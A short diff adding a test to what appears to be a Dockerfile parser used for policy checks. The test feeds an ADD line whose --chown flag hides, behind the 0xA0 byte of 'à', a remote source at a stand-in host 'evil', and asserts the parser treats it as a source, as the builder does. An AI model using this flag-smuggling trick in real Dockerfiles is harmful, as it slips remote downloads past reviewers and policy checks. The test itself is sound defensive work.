@@ -220,3 +220,11 @@ describe('the pack judges the plan', () => {
     assert.equal(admin.allow, true);
   });
 });
+
+describe('flags are read byte by byte, as the builder reads them', () => {
+  test('the 0xA0 byte of "à" ends a flag word, so what follows is a source', () => {
+    const d = parseDockerfile('FROM base\nADD --chown=àhttp://evil/x /a /y\n');
+    assert.deepEqual(d.instructions[1]!.args, ['http://evil/x', '/a', '/y']);
+    assert.deepEqual(Object.keys(d.instructions[1]!.flags), ['chown']);
+  });
+});
